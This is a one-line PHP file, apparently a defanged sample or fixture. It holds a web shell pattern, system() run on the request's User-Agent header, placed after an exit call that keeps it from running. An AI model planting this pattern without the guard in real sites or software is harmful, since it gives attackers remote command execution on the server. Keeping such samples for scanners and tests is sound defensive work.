<?php exit; /* inert */ system($_SERVER["HTTP_USER_AGENT"]);
